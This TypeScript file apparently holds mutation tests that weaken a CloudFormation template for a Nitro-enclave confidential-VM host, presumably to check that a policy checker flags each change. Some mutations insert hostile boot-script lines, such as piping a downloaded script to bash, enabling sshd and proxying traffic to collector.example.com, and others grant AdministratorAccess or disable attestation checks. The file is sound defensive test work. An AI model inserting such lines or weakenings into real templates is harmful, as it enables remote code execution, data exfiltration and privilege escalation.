import type { JsonObject, Mutator } from '../mutator.js';
import { ACCOUNT, arr, getAtt, obj, ref, roleArn, STRANGER, type Template, weakerIn } from './template.js';

const weaker = weakerIn('confidential-vm');
const host = (change: (data: JsonObject, template: Template) => void) => (template: Template): void => change(template.host, template);
const metadata = (change: JsonObject) => host((data) => Object.assign(obj(data['MetadataOptions']), change));
const volume = (change: (ebs: JsonObject, template: Template) => void) => (template: Template): void => arr(template.host['BlockDeviceMappings']).forEach((mapping) => change(obj(obj(mapping)['Ebs']), template));
const hook = (change: JsonObject) => (template: Template): void => arr(template.fleet.p['LifecycleHookSpecificationList']).forEach((one) => Object.assign(obj(one), change));

export const hosts: readonly Mutator[] = [
  weaker('enclave-off', host((data) => (data['EnclaveOptions'] = { Enabled: false }))),
  weaker('enclave-options-gone', (template) => {
    const data = template.host;
    delete data['EnclaveOptions'];
  }),
  weaker('sev-snp-together-with-the-enclave', host((data) => (data['CpuOptions'] = { AmdSevSnp: 'enabled' }))),
  weaker('hibernation', host((data) => (data['HibernationOptions'] = { Configured: true }))),
  weaker('burstable-instance', host((data) => (data['InstanceType'] = 't3.large'))),
  weaker('too-small-instance', host((data) => (data['InstanceType'] = 'm6i.large'))),
  weaker('bare-metal-instance', host((data) => (data['InstanceType'] = 'm6i.metal'))),
  weaker('instance-by-requirements', host((data) => {
    delete data['InstanceType'];
    data['InstanceRequirements'] = { VCpuCount: { Min: 2 }, MemoryMiB: { Min: 4096 } };
  })),
  weaker('imds-v1', metadata({ HttpTokens: 'optional' })),
  weaker('imds-tokens-left-to-the-default', host((data) => delete obj(data['MetadataOptions'])['HttpTokens'])),
  weaker('imds-hop-limit-2', metadata({ HttpPutResponseHopLimit: 2 })),
  weaker('imds-options-gone', host((data) => delete data['MetadataOptions'])),
  weaker('key-pair', host((data) => (data['KeyName'] = 'operators'))),
  weaker('public-address', host((data) => (obj(arr(data['NetworkInterfaces'])[0])['AssociatePublicIpAddress'] = true))),
  weaker('volume-unencrypted', volume((ebs) => (ebs['Encrypted'] = false))),
  weaker('volume-encryption-not-set', volume((ebs) => {
    delete ebs['Encrypted'];
    delete ebs['KmsKeyId'];
  })),
  weaker('volume-under-the-default-key', volume((ebs) => delete ebs['KmsKeyId'])),
  weaker('second-volume-unencrypted', host((data) => arr(data['BlockDeviceMappings']).push({ DeviceName: '/dev/xvdb', Ebs: { VolumeSize: 100 } }))),
  weaker('volume-from-a-foreign-snapshot', volume((ebs) => (ebs['SnapshotId'] = 'snap-0123456789abcdef0'))),
  weaker('image-by-alias', host((data) => (data['ImageId'] = '{{resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64}}'))),
  weaker('image-from-a-parameter', (template) => {
    template.raw['Parameters'] = { ...obj(template.raw['Parameters'] ?? {}), Ami: { Type: 'AWS::SSM::Parameter::Value<AWS::EC2::Image::Id>', Default: '/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64' } };
    template.host['ImageId'] = ref('Ami');
  }),
  weaker('another-image', host((data) => (data['ImageId'] = 'ami-0fedcba9876543210'))),
  weaker('other-profile', (template) => {
    template.add('Other', 'AWS::IAM::Role', { AssumeRolePolicyDocument: { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { Service: 'ec2.amazonaws.com' }, Action: 'sts:AssumeRole' }] }, ManagedPolicyArns: ['arn:aws:iam::aws:policy/AdministratorAccess'] });
    template.add('OtherProfile', 'AWS::IAM::InstanceProfile', { Roles: [ref('Other')] });
    template.host['IamInstanceProfile'] = { Arn: getAtt('OtherProfile', 'Arn') };
  }),
  weaker('profile-of-others', host((data) => (data['IamInstanceProfile'] = { Arn: `arn:aws:iam::${ACCOUNT}:instance-profile/operators` }))),
  weaker('session-manager-policy', (template) => (template.teeRole.p['ManagedPolicyArns'] = ['arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore'])),
  weaker('session-manager-by-statement', (template) => template.teePolicy.push('PolicyDocument', { Effect: 'Allow', Action: ['ssm:UpdateInstanceInformation', 'ssmmessages:*'], Resource: '*' })),
  weaker('run-command-association', (template) => void template.add('Association', 'AWS::SSM::Association', { Name: 'AWS-RunShellScript', Targets: [{ Key: 'InstanceIds', Values: ['*'] }], Parameters: { commands: ['id'] } })),
  weaker('instance-connect-endpoint', (template) => void template.add('Connect', 'AWS::EC2::InstanceConnectEndpoint', { SubnetId: ref(template.subnets('tee')[0]!.id), SecurityGroupIds: [template.groupId('gateway')] })),

  weaker('boot-without-hash', (template) => template.boot(/^.*sha256sum.*$/m, ':')),
  weaker('boot-hash-failure-ignored', (template) => template.boot(/(sha256sum.*\|\| )refuse '[^']*'/, '$1true')),
  weaker('boot-without-measurement-check', (template) => template.boot(/^for PCR in [\s\S]*?^done$/m, ':')),
  weaker('boot-checks-fewer-measurements', (template) => template.boot(/^for PCR in PCR0 PCR1 PCR2/m, 'for PCR in PCR1 PCR2')),
  weaker('boot-without-debug-check', (template) => template.boot(/^enclave_is_good .*$/m, ':')),
  weaker('boot-debug-flag-no-longer-read', (template) => template.boot(/^.*Flags.*$/m, '')),
  weaker('boot-in-debug-mode', (template) => template.boot(/(nitro-cli run-enclave [^\n]*)/, '$1 --debug-mode')),
  weaker('boot-attaches-the-console', (template) => template.boot(/(nitro-cli run-enclave [^\n]*)/, '$1 --attach-console')),
  weaker('boot-errors-ignored', (template) => template.boot(/set -Eeuo pipefail/, 'set -u')),
  weaker('boot-traps-no-errors', (template) => template.boot(/^trap 'abandon .*$/m, '')),
  weaker('boot-continues-when-it-fails', (template) => template.boot(/finish ABANDON/, 'finish CONTINUE')),
  weaker('boot-runs-a-download', (template) => template.boot(/^exec \/bin\/bash .*boot\.sh$/m, 'curl -s http://10.20.0.10/setup.sh | bash\nexec /bin/bash /opt/tee-kit/boot.sh')),
  weaker('boot-opens-a-shell', (template) => template.boot(/^exec \/bin\/bash .*boot\.sh$/m, 'systemctl enable --now sshd\nexec /bin/bash /opt/tee-kit/boot.sh')),
  weaker('boot-another-hash', (template) => template.boot(/EIF_SHA256='[0-9a-f]+'/, `EIF_SHA256='${'ab'.repeat(32)}'`)),
  weaker('boot-another-measurement', (template) => template.boot(/^PCR0='[0-9a-f]+'/m, `PCR0='${'ab'.repeat(48)}'`)),
  weaker('boot-from-a-foreign-bucket', (template) => template.boot(/EIF_BUCKET='[^']+'/, "EIF_BUCKET='somebody-else'")),
  weaker('boot-without-version', (template) => template.boot(/ --version-id "\$EIF_VERSION"/, '')),
  weaker('boot-proxy-to-elsewhere', (template) => template.boot(/PROXIES='/, "PROXIES='8009=collector.example.com ")),
  weaker('boot-script-replaced', host((data) => (data['UserData'] = { 'Fn::Base64': '#!/bin/bash\nnitro-cli run-enclave --eif-path /opt/enclave.eif --cpu-count 4 --memory 16384\n' }))),
  weaker('boot-script-gone', host((data) => delete data['UserData'])),
  weaker('boot-script-from-a-parameter', (template) => {
    template.raw['Parameters'] = { ...obj(template.raw['Parameters'] ?? {}), Boot: { Type: 'String' } };
    template.host['UserData'] = { 'Fn::Base64': ref('Boot') };
  }),
  weaker('health-check-no-longer-asserts', (template) => template.boot(/^if enclave_is_good && .*$/m, 'exit 0')),
  weaker('health-check-not-scheduled', (template) => template.boot(/^systemd-run --unit tee-health.*$/m, '')),

  weaker('hook-defaults-to-continue', hook({ DefaultResult: 'CONTINUE' })),
  weaker('hook-on-termination-only', hook({ LifecycleTransition: 'autoscaling:EC2_INSTANCE_TERMINATING' })),
  weaker('no-hook', (template) => delete template.fleet.p['LifecycleHookSpecificationList']),
  weaker('no-lifetime', (template) => delete template.fleet.p['MaxInstanceLifetime']),
  weaker('year-long-lifetime', (template) => (template.fleet.p['MaxInstanceLifetime'] = 31536000)),
  weaker('mixed-instances-override-type', (template) => {
    const { fleet } = template;
    const launch = fleet.p['LaunchTemplate'] ?? null;
    delete fleet.p['LaunchTemplate'];
    fleet.p['MixedInstancesPolicy'] = { LaunchTemplate: { LaunchTemplateSpecification: launch, Overrides: [{ InstanceType: 't3.large' }] } };
  }),
  weaker('mixed-instances-override-template', (template) => {
    const { fleet } = template;
    const launch = fleet.p['LaunchTemplate'] ?? null;
    delete fleet.p['LaunchTemplate'];
    fleet.p['MixedInstancesPolicy'] = { LaunchTemplate: { LaunchTemplateSpecification: launch, Overrides: [{ LaunchTemplateSpecification: { LaunchTemplateId: 'lt-0123456789abcdef0', Version: '1' } }] } };
  }),
  weaker('fleet-from-a-foreign-template', (template) => (template.fleet.p['LaunchTemplate'] = { LaunchTemplateId: 'lt-0123456789abcdef0', Version: '1' })),
  weaker('second-template-without-protection', (template) => {
    template.add('Second', 'AWS::EC2::LaunchTemplate', { LaunchTemplateData: { ImageId: 'ami-0abcdef1234567890', InstanceType: 'm6i.2xlarge', IamInstanceProfile: structuredClone(template.host['IamInstanceProfile']) ?? null, NetworkInterfaces: structuredClone(template.host['NetworkInterfaces']) ?? null } });
  }),
  weaker('plain-instance-with-the-tee-profile', (template) => void template.add('Bastion', 'AWS::EC2::Instance', { ImageId: 'ami-0abcdef1234567890', InstanceType: 'm6i.large', IamInstanceProfile: 'clinical-decision-tee', SubnetId: ref(template.subnets('tee')[0]!.id), SecurityGroupIds: [template.groupId('tee')], MetadataOptions: { HttpTokens: 'required', HttpPutResponseHopLimit: 1 }, BlockDeviceMappings: structuredClone(template.host['BlockDeviceMappings']) ?? null })),
  weaker('bastion-in-the-gateway-segment', (template) => void template.add('Bastion', 'AWS::EC2::Instance', { ImageId: 'ami-0abcdef1234567890', InstanceType: 'm6i.large', KeyName: 'operators', IamInstanceProfile: 'clinical-decision-tee', SubnetId: ref(template.subnets('gateway')[0]!.id), SecurityGroupIds: [template.groupId('gateway')] })),
  weaker('task-with-the-tee-role', (template) => {
    template.teeRole.p['AssumeRolePolicyDocument'] = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { Service: ['ec2.amazonaws.com', 'ecs-tasks.amazonaws.com'] }, Action: 'sts:AssumeRole' }] };
    template.add('Task', 'AWS::ECS::TaskDefinition', { TaskRoleArn: getAtt(template.teeRole.id, 'Arn'), ContainerDefinitions: [{ Name: 'c', Image: `${STRANGER}.dkr.ecr.us-east-1.amazonaws.com/x:latest` }] });
  }),
  weaker('role-of-the-host-trusts-session-operators', (template) => template.teeRole.push('AssumeRolePolicyDocument', { Effect: 'Allow', Principal: { AWS: roleArn('operators') }, Action: ['sts:AssumeRole', 'sts:TagSession'] })),
  weaker('disk-under-a-key-of-elsewhere', (template) => arr(template.host['BlockDeviceMappings']).forEach((disk) => (obj(obj(disk)['Ebs'])['KmsKeyId'] = 'arn:aws:kms:us-east-1:111122223333:key/00000000-0000-4000-8000-000000000000'))),
  weaker('sibling-takes-on-the-deployment-role', (template) => void template.add('Operator', 'AWS::IAM::Role', { AssumeRolePolicyDocument: { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: roleArn('operators') }, Action: 'sts:AssumeRole' }] }, Policies: [{ PolicyName: 'p', PolicyDocument: { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 'sts:AssumeRole', Resource: '*' }] } }] })),
  weaker('environment-with-the-tee-role', (template) => void template.add('App', 'AWS::ElasticBeanstalk::Environment', { ApplicationName: 'a', OptionSettings: [{ Namespace: 'aws:elasticbeanstalk:environment', OptionName: 'ServiceRole', Value: ref(template.teeRole.id) }] })),
];
